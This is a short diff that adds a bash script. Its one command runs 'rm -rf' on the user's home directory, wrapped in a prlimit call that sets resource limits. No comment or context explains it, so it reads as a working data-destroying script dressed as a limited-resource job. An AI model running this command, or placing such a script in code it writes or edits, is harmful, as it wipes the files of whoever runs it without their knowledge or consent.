@@ -1,0 +1,2 @@
+#!/bin/bash
+prlimit --as=unlimited --cpu=60 rm -rf -- "$HOME"
